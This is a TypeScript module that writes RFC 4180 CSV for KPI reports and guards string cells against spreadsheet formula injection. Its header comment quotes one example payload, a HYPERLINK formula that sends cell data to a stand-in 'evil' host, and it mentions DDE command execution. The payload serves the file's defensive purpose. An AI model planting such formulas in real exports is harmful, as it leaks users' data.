/**
 * CSV for `kpiCsv(report, period, breakdown)` (docs/kpis.md, "Snapshots and export"):
 * RFC 4180 — a header row, records separated by CRLF (every record ends with one, the last
 * included), a field holding a comma, a double quote, CR or LF is wrapped in double quotes
 * with its quotes doubled.
 *
 * Cell values:
 * - null / undefined -> empty field;
 * - number -> String(n): '0.25', '-3', '1e+21', never locale-formatted ("1,234.5" would
 *   split into two fields and "0,25" is a different number in half the world); a non-finite
 *   number (NaN, Infinity) -> empty, as no spreadsheet reads it as a number;
 * - bigint -> its digits; boolean -> 'true' / 'false';
 * - Date -> ISO 8601 in UTC (`toISOString()`); an invalid Date -> empty;
 * - any other object (arrays included) -> JSON;
 * - string -> itself, guarded against formula injection (below).
 *
 * Formula injection (CWE-1236): spreadsheets (Excel, LibreOffice, Google Sheets) evaluate a
 * cell that starts with `=`, `+`, `-` or `@` as a formula, and a leading tab or CR can hide
 * such a prefix from the eye while some importers strip it. Lead names, companies, campaign
 * names and UTM values come from web forms and integrations, i.e. from anyone: a lead named
 * `=HYPERLINK("http://evil/?"&A1, "click")` would run in the RevOps analyst's spreadsheet
 * and can leak data or, with DDE, run commands. So a STRING cell starting with one of
 * `=`, `+`, `-`, `@`, TAB, CR gets a leading `'`, which spreadsheets read as "text" and do
 * not display. Numbers are not strings and are never prefixed (-3 stays -3), which is why KPI
 * values must be passed as numbers, not pre-formatted strings.
 */

export interface CsvColumn {
  /** The row property the column reads. */
  key: string;
  /** The header text. */
  header: string;
}

const CRLF = '\r\n';
const NEEDS_QUOTES = /[",\r\n]/;
const FORMULA_START = /^[=+\-@\t\r]/;

/** A string cell made safe to open in a spreadsheet (see the file header). */
export function neutralizeFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** The text of one cell before RFC 4180 quoting. */
export function csvCellText(value: unknown): string {
  if (value === null || value === undefined) return '';
  switch (typeof value) {
    case 'string':
      return neutralizeFormula(value);
    case 'number':
      return Number.isFinite(value) ? String(value) : '';
    case 'bigint':
      return value.toString();
    case 'boolean':
      return value ? 'true' : 'false';
    case 'object':
      if (value instanceof Date) return Number.isNaN(value.getTime()) ? '' : value.toISOString();
      return JSON.stringify(value);
    default:
      // symbol, function: nothing a spreadsheet could use.
      return '';
  }
}

/** RFC 4180 quoting: wrap in quotes and double the inner quotes when the text needs it. */
export function quoteCsvField(text: string): string {
  return NEEDS_QUOTES.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/**
 * A CSV document: the header row, then one record per row with the columns in the given
 * order (a property the row lacks is an empty field; properties not in `columns` are left
 * out). Every record, the header included, ends with CRLF.
 */
export function toCsv(columns: readonly CsvColumn[], rows: readonly Record<string, unknown>[]): string {
  const record = (cells: readonly unknown[]) => cells.map((c) => quoteCsvField(csvCellText(c))).join(',') + CRLF;
  return record(columns.map((c) => c.header)) + rows.map((row) => record(columns.map((c) => row[c.key]))).join('');
}
